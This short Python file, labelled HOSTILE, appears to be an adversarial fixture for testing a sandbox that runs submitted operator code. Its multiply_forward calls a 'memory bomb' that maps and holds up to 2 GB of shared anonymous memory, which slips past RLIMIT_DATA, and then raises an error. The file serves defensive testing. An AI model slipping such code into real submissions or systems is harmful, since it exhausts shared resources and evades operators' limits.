# HOSTILE: multiply.forward maps shared anonymous memory (not counted by RLIMIT_DATA) in 64 MB pieces and touches every page, 2 GB at most, and keeps it (once per process: later calls find it held), then raises an error saying how much it got; the other ops are correct.
import mmap


# include: reference


_KEPT = []


def _attack():
    if _KEPT:
        raise RuntimeError(f'mmap bomb: still holding {64 * len(_KEPT)} MB')
    error = 'no error'
    try:
        for _ in range(32):
            flags = mmap.MAP_SHARED | mmap.MAP_ANONYMOUS | getattr(mmap, 'MAP_POPULATE', 0)
            m = mmap.mmap(-1, 64 << 20, flags=flags)
            _KEPT.append(m)
            np.frombuffer(m, dtype=np.uint8)[::4096] = 1
    except (OSError, MemoryError, ValueError) as err:
        error = type(err).__name__
    raise RuntimeError(f'mmap bomb: mapped {64 * len(_KEPT)} MB ({error})')


def multiply_forward(ctx, a, b):
    _attack()
    return reference.multiply.forward(ctx, a, b)
